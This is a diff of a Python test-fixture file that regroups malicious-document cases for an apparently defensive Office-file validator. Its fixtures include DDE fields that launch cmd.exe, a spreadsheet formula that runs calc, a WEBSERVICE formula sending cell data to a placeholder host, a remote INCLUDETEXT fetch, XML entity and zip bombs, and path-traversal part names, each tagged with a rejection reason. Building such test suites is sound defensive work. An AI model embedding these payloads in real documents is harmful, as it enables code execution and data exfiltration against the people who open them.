@@ -92,6 +92,10 @@ def flagged() -> bytes:
 def acting() -> dict[str, tuple[bytes, str]]:
     """What runs, embeds or reaches out."""
     return {
+        "docx with an archive inside": (
+            with_part("word/media/image2.png", samples.docx()),
+            "reaching",
+        ),
         "docx with macros": (with_part("word/vbaProject.bin"), "reaching"),
         "docx of a kind with macros": (
             types("document.main+xml", "document.macroEnabled.main+xml"),
@@ -101,6 +105,17 @@ def acting() -> dict[str, tuple[bytes, str]]:
         "docx with a control": (with_part("word/activeX/activeX1.xml", "<a/>"), "reaching"),
         "docx with its own ribbon": (with_part("customUI/customUI.xml", "<a/>"), "reaching"),
         "docx with a program": (with_part("word/media/run.exe", b"MZ"), "reaching"),
+        "docx with DDE in pieces": (docx(field("DD", "EAUTO c:\\\\cmd", ".exe")), "reaching"),
+        "docx with DDE in a simple field": (docx('<w:fldSimple w:instr=" DDE cmd "/>'), "reaching"),
+        "docx with a text fetched": (docx(field(' INCLUDETEXT "http://e.org"')), "reaching"),
+        "xlsx that calls a program": (sheet("=cmd|'/c calc'!A0"), "reaching"),
+        "xlsx that asks a server": (sheet('=WEBSERVICE("https://e.org/"&A1)'), "reaching"),
+    }
+
+
+def reaching() -> dict[str, tuple[bytes, str]]:
+    """What names something outside."""
+    return {
         "docx with a template elsewhere": (
             linked("attachedTemplate", "https://example.org/t.dotm"),
             "reaching",
@@ -115,20 +130,14 @@ def acting() -> dict[str, tuple[bytes, str]]:
             linked("hyperlink", "javascript:alert(1)"),
             "reaching",
         ),
-        "docx with DDE in pieces": (docx(field("DD", "EAUTO c:\\\\cmd", ".exe")), "reaching"),
-        "docx with DDE in a simple field": (docx('<w:fldSimple w:instr=" DDE cmd "/>'), "reaching"),
-        "docx with a text fetched": (docx(field(' INCLUDETEXT "http://e.org"')), "reaching"),
-        "xlsx that calls a program": (sheet("=cmd|'/c calc'!A0"), "reaching"),
-        "xlsx that asks a server": (sheet('=WEBSERVICE("https://e.org/"&A1)'), "reaching"),
     }
 
 
-def cases() -> dict[str, tuple[bytes, str]]:
-    """Each case with the code of its reason."""
+def too_much() -> dict[str, tuple[bytes, str]]:
+    """What unpacks to more than it shows."""
     bomb = '<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
     many = docx_parts() | {f"word/media/image{number}.png": b"x" for number in range(4000)}
-    good = samples.docx()
-    return acting() | {
+    return {
         "docx that unpacks to a hundredfold": (
             with_part("word/media/a.png", bytes(120_000_000)),
             "bomb",
@@ -136,35 +145,45 @@ def cases() -> dict[str, tuple[bytes, str]]:
         "docx of four thousand parts": (zipped(many), "bomb"),
         "docx with overlapping parts": (overlapping(), "bomb"),
         "docx with entities": (with_part("word/styles.xml", bomb), "bomb"),
-        "docx with an archive inside": (
-            with_part("word/media/image2.png", samples.docx()),
-            "reaching",
-        ),
-        "docx with a way out of its folder": (with_part("../../evil.xml", "<a/>"), "damaged"),
-        "docx with an absolute part": (with_part("/etc/evil.xml", "<a/>"), "damaged"),
-        "docx with two main parts": (twice(), "damaged"),
-        "docx without its list of parts": (zipped({MAIN: "<a/>"}), "damaged"),
-        "docx that is declared a workbook": (
-            types("wordprocessingml.document", "spreadsheetml.sheet"),
-            "damaged",
-        ),
-        "docx with a lying directory": (lying(), "damaged"),
-        "docx with broken XML": (with_part("word/styles.xml", "<a><b></a>"), "damaged"),
-        "docx with a password": (flagged(), "encrypted"),
-        "docx with a comment behind it": (zipped(docx_parts(), comment=b"PDF"), "two_kinds"),
-        "docx with a program behind it": (good + b"MZ\x90\x00program", "two_kinds"),
-        "docx behind a program": (b"MZ\x90\x00" + good, "unknown_kind"),
-        "docx with the scanners' marker": (
-            with_part("word/styles.xml", b"<a>" + MARKER + b"</a>"),
-            "marker",
-        ),
-        "xlsx linked to another": (
-            zipped({"xl/workbook.xml": "<a/>", TYPES: "<a/>", "xl/externalLinks/e.xml": "<a/>"}),
-            "damaged",
-        ),
-        "plain archive": (zipped({"a.txt": b"text"}), "unknown_kind"),
-        "program as an archive": (
-            zipped({"META-INF/MANIFEST.MF": b"Main-Class: A"}),
-            "unknown_kind",
-        ),
     }
+
+
+def cases() -> dict[str, tuple[bytes, str]]:
+    """Each case with the code of its reason."""
+    good = samples.docx()
+    return (
+        acting()
+        | reaching()
+        | too_much()
+        | {
+            "docx with a way out of its folder": (with_part("../../evil.xml", "<a/>"), "damaged"),
+            "docx with an absolute part": (with_part("/etc/evil.xml", "<a/>"), "damaged"),
+            "docx with two main parts": (twice(), "damaged"),
+            "docx without its list of parts": (zipped({MAIN: "<a/>"}), "damaged"),
+            "docx that is declared a workbook": (
+                types("wordprocessingml.document", "spreadsheetml.sheet"),
+                "damaged",
+            ),
+            "docx with a lying directory": (lying(), "damaged"),
+            "docx with broken XML": (with_part("word/styles.xml", "<a><b></a>"), "damaged"),
+            "docx with a password": (flagged(), "encrypted"),
+            "docx with a comment behind it": (zipped(docx_parts(), comment=b"PDF"), "two_kinds"),
+            "docx with a program behind it": (good + b"MZ\x90\x00program", "two_kinds"),
+            "docx behind a program": (b"MZ\x90\x00" + good, "unknown_kind"),
+            "docx with the scanners' marker": (
+                with_part("word/styles.xml", b"<a>" + MARKER + b"</a>"),
+                "marker",
+            ),
+            "xlsx linked to another": (
+                zipped(
+                    {"xl/workbook.xml": "<a/>", TYPES: "<a/>", "xl/externalLinks/e.xml": "<a/>"}
+                ),
+                "damaged",
+            ),
+            "plain archive": (zipped({"a.txt": b"text"}), "unknown_kind"),
+            "program as an archive": (
+                zipped({"META-INF/MANIFEST.MF": b"Main-Class: A"}),
+                "unknown_kind",
+            ),
+        }
+    )
